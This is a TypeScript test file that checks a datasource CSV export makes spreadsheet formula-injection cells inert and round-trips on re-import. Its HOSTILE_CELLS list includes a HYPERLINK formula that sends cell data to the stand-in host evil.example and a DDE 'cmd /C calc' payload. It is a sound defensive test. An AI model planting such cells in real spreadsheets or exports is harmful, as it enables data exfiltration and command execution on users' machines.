import { parse } from 'csv-parse/sync';
import { and, eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { datasourceItems } from '../../src/db/schema';
import { runDatasourceBatch } from '../../src/modules/datasources/datasource-jobs';
import {
  clientWith,
  createImported,
  csvOf,
} from '../../src/modules/datasources/datasources.test-support';
import { callApi, getTestServer } from '../support';

/**
 * Abuse suite, formula injection (issue 29, finding 4): the datasource export wrote 7 of 7
 * hostile cells live while the registration exports made them inert. Every CSV the server
 * writes now goes through csv/csv.ts; the datasource import takes the one quote it adds off
 * again, so an export imports back to the same items.
 */
const { app, db } = await getTestServer();
const deps = { db, storage: app.storage };

/** The probe's cells: a formula, +, @ and - first, a tab first, a CR first, spaces first. */
const HOSTILE_CELLS = [
  '=HYPERLINK("http://evil.example/?"&A1;"Klik")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
];

/** One CSV field as a spreadsheet saves it: quoted, inner quotes doubled. */
const quoted = (field: string) => `"${field.replaceAll('"', '""')}"`;

async function exportCsv(key: string, id: number): Promise<string> {
  const started = (await callApi(app, key, 'POST', `/api/datasource/${id}/export`)).json();
  await runDatasourceBatch(deps, started.batch_name);
  const download = await callApi(
    app,
    key,
    'GET',
    `/api/datasource/${id}/export/${started.batch_name}`,
  );
  expect(download.statusCode).toBe(200);
  return download.body;
}

async function itemsOf(clientId: number, id: number) {
  const rows = await db
    .select({ name: datasourceItems.name, data: datasourceItems.data })
    .from(datasourceItems)
    .where(and(eq(datasourceItems.clientId, clientId), eq(datasourceItems.datasourceId, id)))
    .orderBy(datasourceItems.line);
  return rows.map((row) => ({ name: row.name, opmerking: row.data.opmerking }));
}

describe('the datasource export', () => {
  it('makes all 7 hostile cells inert, and its export imports back to the same items', async () => {
    const { client, key } = await clientWith(app, db, 'form_manager');
    // A quote before a formula in the source is read as the one a spreadsheet (or our export)
    // puts there to make it text: the item holds the text without it. A plain negative number
    // stays a number.
    const opmerkingen = [...HOSTILE_CELLS, "'=al gequote", '-12,5'];
    const lines = [
      'object.name;opmerking',
      ...HOSTILE_CELLS.map((cell, i) => `${quoted(cell)};${quoted(opmerkingen[i] ?? '')}`),
      `Veilig;${quoted("'=al gequote")}`,
      'Getal;-12,5',
    ];
    const body = { type: 'search' as const, name: 'Vijandig' };
    const ds = await createImported(app, deps, key, client.id, body, csvOf(lines));
    expect(ds.import_state).toBe('done');
    const imported = await itemsOf(client.id, ds.id);

    const exported = await exportCsv(key, ds.id);
    const [header, ...rows] = parse(exported, { delimiter: ';', bom: true }) as string[][];
    expect(header).toEqual(['object.name', 'opmerking']);
    const cells = rows.flat();
    // Every hostile cell, as a name and as a field, begins with the quote that makes it text.
    for (const cell of HOSTILE_CELLS) {
      expect(cells.filter((c) => c === `'${cell}`)).toHaveLength(2);
      expect(cells).not.toContain(cell);
    }
    expect(imported.slice(-2)).toEqual([
      { name: 'Veilig', opmerking: '=al gequote' },
      { name: 'Getal', opmerking: '-12,5' },
    ]);
    expect(rows.slice(-2)).toEqual([
      ['Veilig', "'=al gequote"],
      ['Getal', '-12,5'],
    ]);

    // The export imported again: the same items, and exporting those gives the same bytes.
    const again = await createImported(
      app,
      deps,
      key,
      client.id,
      { type: 'search', name: 'Terug' },
      Buffer.from(exported),
    );
    expect(again.import_state).toBe('done');
    expect(await itemsOf(client.id, again.id)).toEqual(imported);
    // The fields keep every character; names are trimmed by the import, as always.
    const firstSeven = imported.slice(0, HOSTILE_CELLS.length);
    expect(firstSeven.map((item) => item.opmerking)).toEqual(HOSTILE_CELLS);
    expect(await exportCsv(key, again.id)).toBe(exported);
  });
});
